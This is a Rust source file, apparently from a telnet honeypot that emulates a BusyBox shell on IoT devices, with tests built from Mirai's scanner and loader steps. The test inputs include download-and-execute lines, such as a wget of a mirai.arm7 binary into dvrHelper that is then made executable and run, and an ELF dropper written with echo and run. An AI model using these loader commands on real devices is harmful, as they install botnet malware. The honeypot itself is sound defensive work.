                    return Io::fail(format!("{} multi-call binary.\n\nUsage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[-U|--user-agent AGENT] [-T SEC] URL...\n\nRetrieve files via HTTP or FTP\n", pe.busybox), 1);
                }
                self.unreachable("wget", &extract::downloads_in(&[vec!["wget".to_string()], args.to_vec()].concat()))
            }
            "tftp" => {
                if args.iter().all(|a| a.starts_with('-')) {
                    return Io::fail(format!("{} multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n", pe.busybox), 1);
                }
                Io::fail("tftp: timeout\n".into(), 1)
            }
            "ftpget" | "telnet" | "nc" => {
                if args.iter().all(|a| a.starts_with('-')) {
                    return Io::fail(format!("{} multi-call binary.\n\nUsage: {applet} [OPTIONS] HOST ...\n", pe.busybox), 1);
                }
                self.unreachable(applet, &extract::downloads_in(&[vec![applet.to_string()], args.to_vec()].concat()))
            }
            "exit" | "logout" => {
                outcome.exit = true;
                Io::ok(Vec::new())
            }
            "kill" | "killall" | "sleep" | "true" | "mount" | "export" | "unset" | "alias" | "set" | "ulimit" | "umask" | "trap" => Io::ok(Vec::new()),
            "help" => Io::ok(ASH_HELP.as_bytes().to_vec()),
            "which" | "type" => {
                let mut io = Io::ok(Vec::new());
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    if APPLETS.contains(&a.as_str()) {
                        io.out.extend_from_slice(if applet == "type" { format!("{a} is /bin/{a}\n") } else { format!("/bin/{a}\n") }.as_bytes());
                    } else {
                        io.status = 1;
                        if applet == "type" {
                            io.out.extend_from_slice(format!("{a}: not found\n").as_bytes());
                        }
                    }
                }
                io
            }
            "false" => Io { out: Vec::new(), err: Vec::new(), status: 1 },
            _ => Io::ok(Vec::new()),
        }
    }

    /// What a download applet says when its server does not answer (the
    /// honeypot does not fetch by default).
    fn unreachable(&self, applet: &str, d: &[Download]) -> Io {
        match d.first().and_then(|d| d.host.clone().map(|h| (h, d.port))) {
            Some((h, _)) if h.parse::<std::net::IpAddr>().is_ok() => Io::fail(
                format!("{applet}: can't connect to remote host ({h}): Connection refused\n"),
                1,
            ),
            Some((h, _)) => Io::fail(format!("{applet}: bad address '{h}'\n"), 1),
            None => Io::fail(format!("{applet}: bad address\n"), 1),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::persona::{builtin_personas, Deployment};

    fn shell(name: &str) -> Shell {
        let p = builtin_personas()
            .into_iter()
            .find(|p| p.name == name)
            .unwrap();
        Shell::new(Arc::new(Deployment::new(p, 42)), 1000)
    }

    fn out(sh: &mut Shell, line: &str) -> String {
        String::from_utf8_lossy(&sh.run_line(line).output).into_owned()
    }

    #[test]
    fn parsing_quotes_operators_and_redirections() {
        let p =
            parse(r#"echo -e '\x41 b' "c\"d" e\ f >> /tmp/x 2>&1 && cat /tmp/x | grep A; ls # no"#);
        assert_eq!(p.len(), 4);
        assert_eq!(p[0].0.words, vec!["echo", "-e", r"\x41 b", "c\"d", "e f"]);
        assert_eq!(
            p[0].0.redirs[0],
            Redir {
                fd: 1,
                append: true,
                target: Target::File("/tmp/x".into())
            }
        );
        assert_eq!(
            p[0].0.redirs[1],
            Redir {
                fd: 2,
                append: false,
                target: Target::Fd(1)
            }
        );
        assert_eq!(p[0].1, Op::And);
        assert_eq!(p[1].1, Op::Pipe);
        assert_eq!(p[3].0.words, vec!["ls"]);
        let p = parse(">dvrHelper");
        assert_eq!(p[0].0.words.len(), 0);
        assert_eq!(p[0].0.redirs.len(), 1);
        assert!(parse("").is_empty());
    }

    /// Mirai's scanner and loader, step by step (mirai/loader/src/server.c).
    #[test]
    fn what_mirai_sends_gets_what_mirai_expects() {
        let mut sh = shell("hisilicon-dvr");
        assert_eq!(
            out(&mut sh, "/bin/busybox ECCHI"),
            "ECCHI: applet not found\n"
        );
        assert_eq!(out(&mut sh, "enable"), "-sh: enable: not found\n");
        let o = out(&mut sh, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
        assert!(o.contains("tmpfs /tmp tmpfs rw"), "{o}");
        assert!(o.ends_with("ECCHI: applet not found\n"));
        let o = out(
            &mut sh,
            r"/bin/busybox echo -e '\x41\x4b\x34\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
        );
        assert_eq!(o, "AK47\n");
        let o = out(&mut sh, r"/bin/busybox echo -e '\x41' > /bin/.nippon");
        assert_eq!(o, "-sh: can't create /bin/.nippon: Read-only file system\n");
        assert_eq!(out(&mut sh, "cd /tmp/"), "");
        assert_eq!(out(&mut sh, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"), "ECCHI: applet not found\n");
        let bin = sh.run_line("/bin/busybox cat /bin/echo").output;
        assert_eq!(&bin[..4], b"\x7fELF");
        let dd = sh
            .run_line("dd bs=52 count=1 if=/bin/echo || cat /bin/echo")
            .output;
        assert_eq!(&dd[..52], &bin[..52]);
        assert!(String::from_utf8_lossy(&dd[52..]).contains("1+0 records in"));
        let o = out(
            &mut sh,
            "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
        );
        assert!(
            o.contains("Usage: wget")
                && o.contains("Usage: tftp")
                && !o.contains("wget: applet not found")
        );
        let r = sh.run_line("/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.arm7; /bin/busybox IHCCE");
        assert_eq!(r.downloads.len(), 1);
        assert_eq!(
            r.downloads[0].url,
            "http://198.51.100.7:8080/bins/mirai.arm7"
        );
        let text = String::from_utf8_lossy(&r.output);
        assert!(
            text.contains("can't connect to remote host (198.51.100.7)"),
            "{text}"
        );
        assert!(text.ends_with("IHCCE: applet not found\n"));
        assert!(r
            .commands
            .iter()
            .all(|c| c.known || c.input.contains("IHCCE")));
    }

    #[test]
    fn echo_payloads_are_kept_even_when_removed() {
        let mut sh = shell("mips-router");
        sh.run_line(r"cd /var; echo -ne '\x7f\x45\x4c\x46\x01\x02' > upnp; echo -ne '\x00\x02\x05\x39' >> upnp; chmod 777 upnp; ./upnp; rm upnp");
        let w = sh.written_files();
        assert_eq!(
            w,
            vec![(
                "/var/upnp",
                &[0x7f, b'E', b'L', b'F', 1, 2, 0, 2, 5, 0x39][..]
            )]
        );
        assert_eq!(
            out(&mut sh, "cat /var/upnp"),
            "cat: can't open '/var/upnp': No such file or directory\n"
        );
        // The router persona's CLI words answer nothing.
        assert_eq!(out(&mut sh, "enable; system; shell; sh"), "");
    }

    #[test]
    fn lists_and_statuses() {
        let mut sh = shell("arm-camera");
        assert_eq!(out(&mut sh, "false && echo a || echo b"), "b\n");
        assert_eq!(out(&mut sh, "true || echo a; echo c"), "c\n");
        assert_eq!(out(&mut sh, "nosuch 2>/dev/null; echo ok"), "ok\n");
        assert_eq!(
            out(&mut sh, "cat /proc/cpuinfo | grep Hardware"),
            "Hardware\t: Faraday GM8126\n"
        );
        assert!(out(&mut sh, "uname -a").starts_with("Linux "));
        assert_eq!(out(&mut sh, "uname -m"), "armv5tejl\n");
        assert!(out(&mut sh, "ps").contains("/usr/sbin/telnetd"));
        assert_eq!(
            out(&mut sh, "curl http://x.example/a"),
            "-sh: curl: not found\n"
        );
        let r = sh.run_line("sh -c 'wget http://203.0.113.1/a.sh'");
        assert_eq!(r.downloads[0].url, "http://203.0.113.1/a.sh");
        assert!(sh.run_line("exit").exit);
    }

    #[test]
    fn written_bytes_are_bounded() {
        let mut sh = shell("arm-camera");
        let big = "A".repeat(200_000);
        let mut errors = 0;
        for _ in 0..10 {
            let o = out(&mut sh, &format!("echo {big} >> /tmp/f"));
            errors += o.contains("No space left") as usize;
        }
        assert!(errors > 0);
        assert!(sh.written <= MAX_WRITTEN);
        let o = sh.run_line(&"cat /proc/cpuinfo;".repeat(2000));
        assert!(o.output.len() <= MAX_OUTPUT);
    }

    /// A hostile trial: a 512 KiB file copied and removed thousands of times
    /// from a few bytes of input grew the honeypot by gigabytes. Copies count
    /// toward the session's bytes, and removed files kept as samples are
    /// bounded.
    #[test]
    fn copy_loops_cannot_amplify_memory() {
        let mut sh = shell("arm-camera");
        sh.run_line(&format!("echo -n {} > /tmp/a", "A".repeat(4096)));
        for _ in 0..7 {
            sh.run_line("cat /tmp/a /tmp/a > /tmp/b; mv /tmp/b /tmp/a");
        }
        let line = (0..100)
            .map(|i| format!("cp /tmp/a /tmp/c{i};rm /tmp/c{i}"))
            .collect::<Vec<_>>()
            .join(";");
        let mut refused = false;
        for _ in 0..40 {
            refused |= out(&mut sh, &line).contains("No space left");
        }
        assert!(refused);
        assert!(sh.written_total <= MAX_WRITTEN_TOTAL);
        let kept: usize = sh.written_files().iter().map(|(_, b)| b.len()).sum();
        assert!(kept <= 2 * MAX_WRITTEN, "{kept}");
        assert!(sh.written_files().len() <= MAX_REMOVED + 8);
    }

    /// What a hostile trial found giving the honeypot away.
    #[test]
    fn common_commands_look_like_busybox() {
        let mut sh = shell("mips-router");
        assert!(out(&mut sh, "ls /bin").contains("busybox"));
        assert!(out(&mut sh, "ls /proc").contains("cpuinfo"));
        assert!(out(&mut sh, "help").contains("Built-in commands"));
        assert_eq!(out(&mut sh, "export PATH=/bin; X=1 echo hi"), "hi\n");
        assert_eq!(
            out(&mut sh, "which wget; which nosuch || echo none"),
            "/bin/wget\nnone\n"
        );
        assert_eq!(sh.run_line("cat /bin/echo | head -c 4").output, b"\x7fELF");
        assert!(out(&mut sh, "ps").lines().any(|l| l.contains(" 0 SW")));
        assert!(out(&mut sh, "cat /proc/meminfo").starts_with("MemTotal:"));
    }

    #[test]
    fn nested_shells_still_record_downloads() {
        let mut sh = shell("arm-camera");
        let r = sh.run_line(r#"sh -c 'sh -c "sh -c \"wget http://11.0.9.6/b\""'"#);
        assert_eq!(r.downloads.len(), 1, "{:?}", r.commands);
    }

    proptest::proptest! {
        #[test]
        fn any_line_is_safe(line in ".{0,300}") {
            let mut sh = shell("hisilicon-dvr");
            let o = sh.run_line(&line);
            proptest::prop_assert!(o.output.len() <= MAX_OUTPUT);
        }
    }
}
